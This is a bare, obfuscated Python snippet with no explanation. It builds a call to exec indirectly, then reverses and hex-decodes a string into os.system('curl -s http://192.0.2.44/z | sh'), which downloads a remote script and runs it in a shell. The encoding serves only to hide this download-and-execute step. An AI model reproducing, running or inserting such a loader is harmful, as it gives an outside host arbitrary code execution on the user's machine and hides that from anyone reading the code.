(lambda _0: (lambda _1, _2: _1(_2(_0)))(
    getattr(__import__("builtins"), "e" + "x" + "e" + "c"),
    lambda _3: __import__("binascii").unhexlify(_3[::-1]).decode(),
))("9222863702c702a7f24343e223e203e2239313f2f2a3074747860237d202c62757362282d65647379737e2922237f62282f5f54727f607d696f5f5")
